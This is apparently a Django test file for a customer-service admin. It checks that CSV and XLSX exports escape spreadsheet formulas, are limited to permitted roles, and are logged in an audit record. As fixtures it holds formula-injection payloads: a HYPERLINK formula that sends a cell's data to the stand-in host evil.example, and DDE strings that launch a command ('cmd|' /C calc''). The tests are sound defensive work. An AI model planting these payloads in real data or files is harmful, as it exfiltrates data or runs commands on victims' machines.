"""Exports are safe and audited (issue 13, item 8).

Attackers: someone who puts a formula into a name, company or note (a platform push, the public form,
an import) so that it runs on the machine of whoever opens the export; an agent or data analyst who
tries to take the customer base out in a spreadsheet."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from django.utils import timezone

from core.models import ExportRecord
from core.roles import Role
from core.spreadsheets import csv_text, safe_cell, xlsx_bytes
from customers import services
from customers.errors import NotAllowed
from customers.models import Customer
from tests.complaints.factories import make_complaint
from tests.factories import ContactLogFactory, CustomerFactory, DriverFactory, OrderFactory, StaffFactory

pytestmark = pytest.mark.django_db
URL = reverse("admin:customers_customer_changelist")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'


def export(client, action, customers, query=""):
    return client.post(URL + query, {"action": action, ACTION_CHECKBOX_NAME: [c.pk for c in customers]})


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def supervisor_client(client):
    client.force_login(StaffFactory(role=Role.CS_SUPERVISOR))
    return client


# --- formula injection -------------------------------------------------------------------------
def test_a_customer_named_as_a_formula_comes_out_escaped_in_csv(supervisor_client):
    customer = CustomerFactory(full_name=HYPERLINK, company_name="+1+cmd|' /C calc'!A0", notes="x")

    rows = csv_rows(export(supervisor_client, "export_csv", [customer]))

    row = rows[1]
    assert "'" + HYPERLINK in row and HYPERLINK not in row
    assert "'+1+cmd|' /C calc'!A0" in row
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_customer_named_as_a_formula_is_text_not_a_formula_in_xlsx(supervisor_client):
    customer = CustomerFactory(full_name=HYPERLINK, company_name="@SUM(1+1)*cmd|' /C calc'!A0")

    response = export(supervisor_client, "export_xlsx", [customer])

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows())[1]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert "'" + HYPERLINK in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values


def test_complaint_analysis_escapes_a_drivers_name_and_keeps_counts_numeric(client):
    agent = StaffFactory(role=Role.CS_AGENT)
    order = OrderFactory(driver=DriverFactory(name="=1+2"))
    received = timezone.now() - dt.timedelta(days=1)
    make_complaint(actor=agent, order=order, received_at=received)
    client.force_login(StaffFactory(role=Role.CS_SUPERVISOR))

    month = timezone.localtime(received).strftime("%Y-%m")
    response = client.get(reverse("admin:complaints_complaint_analysis_export") + f"?month={month}")

    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value == "'=1+2" for cell in cells)
    assert any(cell.data_type == "n" and cell.value == 1 for cell in cells)  # counts stay numbers


def test_callback_report_escapes_an_agents_name_in_csv_and_xlsx(client):
    ContactLogFactory(agent=StaffFactory(username="x", first_name="-2+3", last_name=""),
                      due_on=dt.date(2026, 11, 17), happened_at=timezone.make_aware(dt.datetime(2026, 11, 17, 10)))
    client.force_login(StaffFactory(role=Role.OPERATIONS_MANAGER))
    params = {"period": "month", "day": "2026-11-05", "by": "agent"}
    url = reverse("admin:care_callback_report")

    lines = client.get(url, {**params, "export": "csv"}).content.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("'-2+3,")
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url, {**params, "export": "xlsx"}).content)).active
    assert sheet["A2"].value == "'-2+3" and sheet["A2"].data_type == "s"
    assert sheet["C2"].data_type == "n"


def test_only_text_is_escaped_numbers_stay_numbers():
    assert [safe_cell(v) for v in (-5, Decimal("-3.50"), -0.5, None, dt.date(2026, 1, 2))] == [
        -5, Decimal("-3.50"), -0.5, None, dt.date(2026, 1, 2)]
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", "张伟", "a=1")] == [
        "'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "张伟", "a=1"]
    assert csv_text([["=1", -5]], bom=False).strip() == "'=1,-5"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([("s", [["=1", -5, Decimal("-2.5")]])]))).active
    assert [(c.value, c.data_type) for c in sheet[1]] == [("'=1", "s"), (-5, "n"), (-2.5, "n")]


# --- permission ----------------------------------------------------------------------------------
@pytest.mark.parametrize("role", [Role.CS_AGENT, Role.AFTER_SALES, Role.DATA_ANALYST])
def test_roles_without_the_export_permission_have_no_export_and_forcing_it_yields_nothing(client, role):
    customer = CustomerFactory(full_name="张伟")
    client.force_login(StaffFactory(role=role))

    page = client.get(URL)
    form = page.context["action_form"]  # None when the role has no action at all
    actions = [name for name, _label in form.fields["action"].choices] if form else []
    assert "export_csv" not in actions and "export_xlsx" not in actions
    response = export(client, "export_csv", [customer])  # the action posted by hand

    assert "attachment" not in response.get("Content-Disposition", "")
    assert not response.get("Content-Type", "").startswith(("text/csv", "application/vnd.openxmlformats"))
    assert not ExportRecord.objects.exists()


def test_the_export_service_refuses_a_user_without_the_permission():
    with pytest.raises(NotAllowed):
        services.customers_export(actor=StaffFactory(role=Role.CS_AGENT), queryset=Customer.objects.all(),
                                  fmt="csv")
    assert not ExportRecord.objects.exists()


@pytest.mark.parametrize("role", [Role.CS_SUPERVISOR, Role.OPERATIONS_MANAGER, Role.GENERAL_MANAGER])
def test_supervisors_and_managers_may_export_customers(client, role):
    client.force_login(StaffFactory(role=role))
    assert export(client, "export_csv", [CustomerFactory()]).status_code == 200


# --- the export record ---------------------------------------------------------------------------
def test_an_export_writes_one_record_with_who_what_filter_rows_and_format(client):
    supervisor = StaffFactory(role=Role.CS_SUPERVISOR)
    client.force_login(supervisor)
    customers = [CustomerFactory(status=Customer.Status.ACTIVE) for _ in range(3)]

    response = export(client, "export_xlsx", customers, query="?status__exact=active")

    assert response.status_code == 200
    record = ExportRecord.objects.get()
    assert (record.user, record.kind, record.format, record.row_count) == (supervisor, "customers", "xlsx", 3)
    assert record.query == "status__exact=active"
    assert timezone.now() - record.exported_at < dt.timedelta(minutes=1)


def test_the_callback_report_export_is_recorded_too(client):
    manager = StaffFactory(role=Role.OPERATIONS_MANAGER)
    client.force_login(manager)
    client.get(reverse("admin:care_callback_report"),
               {"period": "week", "day": "2026-11-05", "by": "team", "export": "csv"})
    record = ExportRecord.objects.get()
    assert (record.user, record.kind, record.format) == (manager, "callbacks", "csv")


def test_supervisors_list_export_records_read_only_and_agents_cannot(client):
    supervisor = StaffFactory(role=Role.CS_SUPERVISOR)
    ExportRecord.objects.create(user=supervisor, kind="customers", format="csv", row_count=7, query="q=张")
    changelist = reverse("admin:core_exportrecord_changelist")

    client.force_login(supervisor)
    page = client.get(changelist)
    assert page.status_code == 200 and list(page.context["cl"].result_list)[0].row_count == 7
    assert client.get(reverse("admin:core_exportrecord_add")).status_code == 403
    record = ExportRecord.objects.get()
    client.post(reverse("admin:core_exportrecord_delete", args=[record.pk]), {"post": "yes"})
    assert ExportRecord.objects.filter(pk=record.pk).exists()

    client.force_login(StaffFactory(role=Role.CS_AGENT))
    assert client.get(changelist).status_code == 403
